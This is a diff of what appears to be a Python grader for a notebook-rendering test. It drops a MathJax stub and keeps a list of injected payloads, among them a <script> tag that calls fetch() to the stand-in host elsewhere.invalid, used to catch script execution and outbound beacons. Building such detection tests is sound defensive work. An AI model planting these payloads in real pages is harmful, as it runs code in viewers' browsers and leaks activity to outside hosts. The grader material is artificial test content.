@@ -17,7 +17,6 @@ NAME = "03-detach"
 COMMENT = "The version counter is the point. One point for the idea."
 ELSEWHERE = "elsewhere.invalid"
 NOTEBOOK = "main #notebook-container"
-MATHJAX = "window.MathJax = {Hub: {Config() {}, Queue() {}, Startup: {signal: {Interest() {}}}}}"
 JUPYTER = str(Path(sys.executable).with_name("jupyter"))
 # Each line tries to run something in the browser of whoever looks, or to tell another host that somebody does.
 MARKDOWN = f"""<script>window.ran = 1; fetch('http://{ELSEWHERE}/script')</script>
@@ -59,8 +58,6 @@ class Grader:
     def _pass(self, route):
         if route.request.url.startswith((self.base, "data:", "blob:", "file:")):
             route.continue_()
-        elif route.request.url.startswith("https://cdnjs.cloudflare.com/ajax/libs/mathjax/"):
-            route.fulfill(body=MATHJAX, content_type="text/javascript")  # nbconvert's own
         else:
             self.foreign.append(route.request.url)
             route.abort()
